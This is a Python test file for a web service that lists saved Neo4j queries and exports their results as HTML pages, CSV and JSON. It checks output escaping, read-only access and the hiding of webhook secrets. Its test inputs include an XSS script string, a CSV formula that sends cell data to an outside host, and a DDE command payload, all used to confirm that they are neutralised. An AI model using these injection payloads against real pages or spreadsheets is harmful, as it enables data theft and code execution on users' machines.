"""GET /queries, its pages and its tables, on a real Neo4j and a real socket."""

import csv
import io
import json
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest
from pydantic import SecretStr

from api.app import create_app
from api.queries.page import MOST_ROWS, POLICY
from api.settings import Settings
from graph.adhoc.running import Adhoc
from graph.database.address import DatabaseAddress
from graph.database.sessions import Database
from graph.model.kinds import ParameterType
from graph.saved.library import list_library
from graph.saved.queries import Draft, Parameter
from graph.saved.schedules import DeliveryFormat, Schedule, set_schedule
from graph.saved.sealing import Seals
from graph.saved.store import save_query
from tests.helpers.database import empty
from tests.helpers.graph_dump import ask
from tests.helpers.serving_app import asking_app

SECRET = "a secret of the tests"
HOSTILE = "\"'><script>alert(1)</script>&amp;<!--"
FORMULA = '=HYPERLINK("http://example.org?"&A1)'
DRAFTS = (
    Draft("echo", "RETURN $text AS text", HOSTILE, (Parameter("text", ParameterType.STRING, HOSTILE),)),
    Draft(
        "both",
        "UNWIND $items AS item RETURN item, $n AS n, $on AS on",
        "",
        (
            Parameter("items", ParameterType.STRING_LIST, "", ["a", "b"]),
            Parameter("n", ParameterType.INTEGER, "", 2**60),
            Parameter("on", ParameterType.BOOLEAN, "", default=False),
        ),
    ),
    Draft("many", "UNWIND range(1, $n) AS i RETURN i", "", (Parameter("n", ParameterType.INTEGER),)),
    Draft("slow", "UNWIND range(1, $n) AS i RETURN sum(i) AS n", "", (Parameter("n", ParameterType.INTEGER),)),
    Draft(
        "wide",
        "RETURN $text AS `<b>bold</b>`, 1.0 / 3 AS third, [1, {a: '<i>'}] AS nested, null AS nothing",
        "",
        (Parameter("text", ParameterType.STRING, "", HOSTILE),),
    ),
)


@pytest.fixture(scope="module")
async def client(migrated_database: Database, database_address: DatabaseAddress) -> AsyncIterator[httpx.AsyncClient]:
    """A client of a service with some saved queries."""
    await empty(migrated_database)
    settings = Settings(warm_up=False, scheduler=False, response_cache_bytes=0, webhook_secret=SecretStr(SECRET))
    async with Adhoc(database_address) as adhoc:
        for draft in DRAFTS:
            await save_query(migrated_database, adhoc, draft, caller="test")
        async with asking_app(create_app(settings, migrated_database, adhoc=adhoc)) as client:
            yield client
    await empty(migrated_database)


class _Reader(HTMLParser):
    """Reads a page as a browser would: its elements, its texts, and its addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def read(response: httpx.Response) -> _Reader:
    """A page, which has its headers and neither script nor handler."""
    assert response.headers["content-type"] == "text/html; charset=utf-8"
    assert response.headers["content-security-policy"] == POLICY
    assert "unsafe" not in POLICY
    reader = _Reader()
    reader.feed(response.text)
    assert "script" not in reader.tags
    assert not [name for _, name, _ in reader.attributes if name.startswith("on")]
    assert {value for _, name, value in reader.attributes if name in ("href", "action")} <= {
        value for _, name, value in reader.attributes if (value or "").startswith("/queries")
    }
    return reader


def cells_of(response: httpx.Response) -> list[list[str]]:
    """The rows of a CSV."""
    return list(csv.reader(io.StringIO(response.text, newline="")))


async def test_the_list_has_every_query(client: httpx.AsyncClient) -> None:
    """Those that were saved and those of the project, each with its page."""
    page = read(await client.get("/queries"))

    links = [value for tag, name, value in page.attributes if (tag, name) == ("a", "href")]
    assert links == ["/queries", *(f"/queries/{name}" for name in sorted([*list_library(), *(d.name for d in DRAFTS)]))]
    assert HOSTILE in page.texts


async def test_a_page_has_a_form_a_table_and_its_files(client: httpx.AsyncClient) -> None:
    """Values stay in the form, and go into the addresses of the files."""
    page = read(await client.get("/queries/both", params={"items": "x\r\ny & z", "n": "7", "on": ""}))

    named = {value: tag for tag, name, value in page.attributes if name == "name" and tag != "meta"}
    assert named == {"items": "textarea", "n": "input", "on": "select"}
    assert ("input", "value", "7") in page.attributes
    assert "x\ny & z" in [text.lstrip("\n").replace("\r\n", "\n") for text in page.texts]
    links = [value or "" for tag, name, value in page.attributes if (tag, name) == ("a", "href")]
    (link,) = [value for value in links if ".csv" in value]
    assert cells_of(await client.get(link)) == [["item", "n", "on"], ["x", "7", "false"], ["y & z", "7", "false"]]
    assert [text for text in page.texts if text in ("x", "y & z")] == ["x", "y & z"]


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "</textarea></style></pre>", "${style} $title", "\u202e\ufffd", "javascript:a"],
)
async def test_no_value_becomes_html(client: httpx.AsyncClient, text: str) -> None:
    """Neither in the form, the table, the addresses, nor in an error."""
    for name in ("echo", "wide"):
        page = read(await client.get(f"/queries/{name}", params={"text": text}))
        assert ("input", "value", text) in page.attributes
        assert text in page.texts
        assert "b" not in page.tags
    unknown = await client.get("/queries/echo", params={text: text})
    assert unknown.status_code == 400
    assert any(repr(text)[1:30] in found for found in read(unknown).texts)
    missing = await client.get(f"/queries/{httpx.URL('http://x/' + text.replace('/', '|')).path[1:]}")
    assert missing.status_code == 404
    read(missing)


async def test_wrong_values_are_told_beside_the_form(client: httpx.AsyncClient) -> None:
    """Each fault in a line, and what was typed stays."""
    response = await client.get("/queries/both", params={"n": "seven", "on": "maybe"})

    page = read(response)
    assert response.status_code == 400
    assert ("input", "value", "seven") in page.attributes
    told = next(text for text in page.texts if "expects" in text).splitlines()
    assert told == [
        "the parameter 'n' (INTEGER) expects a whole number of 64 bits, got \"seven\"",
        "the parameter 'on' (BOOLEAN) expects true or false, got \"maybe\"",
    ]


async def test_a_page_without_a_required_value_waits_for_it(client: httpx.AsyncClient) -> None:
    response = await client.get("/queries/many")

    assert response.status_code == 200
    assert "Fill in the form to see the rows." in read(response).texts


async def test_a_page_shows_so_many_rows_and_its_file_all(client: httpx.AsyncClient) -> None:
    """What is left out is told."""
    page = read(await client.get("/queries/many?n=1234"))
    table = await client.get("/queries/many.csv?n=1234")

    assert page.tags.count("tr") == MOST_ROWS + 1
    assert any(text.startswith("The first 500 rows") for text in page.texts)
    assert cells_of(table) == [["i"], *([str(i)] for i in range(1, 1_235))]
    assert table.headers["content-disposition"] == 'inline; filename="many.csv"'


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "a;=1", "\uff1d1", 'a",=1', "|cmd", "a\n=cmd|' /C calc'!A0"],
)
async def test_no_cell_of_a_table_is_a_formula(client: httpx.AsyncClient, text: str) -> None:
    """Neither at its start nor behind what another program takes for the end of a cell; JSON has the text itself."""
    (_, [cell]) = cells_of(await client.get("/queries/echo.csv", params={"text": text}))
    document = (await client.get("/queries/echo.json", params={"text": text})).json()

    assert document["rows"] == [[text]]
    assert cell.replace("'", "") == text.replace("'", "")
    parts = [part for line in cell.splitlines() for part in line.replace("\t", ";").split(";")]
    assert not [part for part in parts if part[:1] in ("=", "+", "-", "@", "\uff1d")]


async def test_json_and_lines_have_the_same_rows(client: httpx.AsyncClient) -> None:
    address = "/queries/both.{}?items=x&items=y&on=true"
    document = (await client.get(address.format("json"))).json()
    lines = (await client.get(address.format("ndjson"))).text.splitlines()
    typed = (await client.get(address.format("json") + "&typed=true&maxRows=1")).json()

    assert document["rows"] == [["x", str(2**60), True], ["y", str(2**60), True]]
    assert [list(json.loads(line).values()) for line in lines] == document["rows"]
    assert typed["rows"][0][1] == {"$type": "Integer", "_value": str(2**60)}
    assert (len(typed["rows"]), typed["isTruncated"]) == (1, True)


@pytest.mark.parametrize(
    ("address", "status", "code", "words"),
    [
        ("/queries/nobody.csv", 404, "NOT_FOUND", "no saved query has the name 'nobody'"),
        ("/queries/echo.csv?text=a&version=9", 404, "NOT_FOUND", "no version 9"),
        ("/queries/many.csv", 400, "INVALID", "'n' (INTEGER) is required"),
        ("/queries/many.csv?n=1&n=2", 400, "INVALID", "expects a whole number"),
        ("/queries/many.csv?n=1&x=2", 400, "INVALID", "no parameter 'x'"),
        ("/queries/many.csv?n=1&maxRows=0", 400, "INVALID", "expected a whole number from 1"),
        ("/queries/many.csv?n=1&timeoutMs=abc", 400, "INVALID", "expected a whole number from 1"),
        ("/queries/many.csv?n=1&typed=true", 400, "INVALID", "csv has no typed values"),
        ("/queries/slow.csv?n=1000000000000&timeoutMs=100", 504, "CYPHER_STOPPED", "stopped"),
    ],
)
async def test_a_wrong_address_is_refused(
    client: httpx.AsyncClient, address: str, status: int, code: str, words: str
) -> None:
    """Before the first byte, with what was expected and what came."""
    response = await client.get(address)

    (error,) = response.json()["errors"]
    assert (response.status_code, error["extensions"]["code"]) == (status, code)
    assert words in error["message"]


async def test_pages_only_read(client: httpx.AsyncClient, migrated_database: Database) -> None:
    """A GET writes nothing, and nothing else is possible."""
    before = await ask(migrated_database, "MATCH (n) RETURN count(n)")

    await client.get("/queries")
    await client.get("/queries/both")

    assert await ask(migrated_database, "MATCH (n) RETURN count(n)") == before
    assert (await client.post("/queries/both", data={"n": "1"})).status_code == 405


async def test_without_ad_hoc_cypher_the_list_stays(migrated_database: Database, client: httpx.AsyncClient) -> None:
    """The operator may turn it off; pages say so."""
    settings = Settings(warm_up=False, scheduler=False, adhoc=False)
    async with asking_app(create_app(settings, migrated_database)) as other:
        listed, page = await other.get("/queries"), await other.get("/queries/both")
        table: Any = (await other.get("/queries/both.csv")).json()

    read(listed)
    assert listed.status_code == 200
    assert page.status_code == 400
    assert any("turned ad-hoc Cypher off" in text for text in read(page).texts)
    assert table["errors"][0]["extensions"]["code"] == "CYPHER_REFUSED"


async def test_the_list_shows_schedules_and_deliveries_that_were_given_up(
    client: httpx.AsyncClient, migrated_database: Database
) -> None:
    """With the host alone, as the rest of an address may be a secret; and escaped."""
    url = "https://hooks.example.org/token-of-the-receiver"
    sealed = Seals(SECRET.encode()).close(url)
    schedule = Schedule("nightly", "echo", {"text": "a"}, sealed, DeliveryFormat.CSV, daily_at_hour=4)
    await set_schedule(migrated_database, schedule)
    await ask(
        migrated_database,
        "CREATE (:QueryDelivery {id: 'nightly@1', schedule: 'nightly', query: 'echo', parameters: '{}', "
        "sealed_url: $url, format: 'CSV', due_at: datetime(), status: 'DEAD', num_attempts: 6, last_error: $error})",
        url=sealed,
        error=HOSTILE,
    )

    response = await client.get("/queries")

    texts = read(response).texts
    assert {"nightly", "daily at 04:00 UTC", "hooks.example.org", "nightly@1", "6", HOSTILE} <= set(texts)
    assert "token-of-the-receiver" not in response.text
    await ask(migrated_database, "MATCH (n) WHERE n:QueryDelivery OR n:QuerySchedule DELETE n")
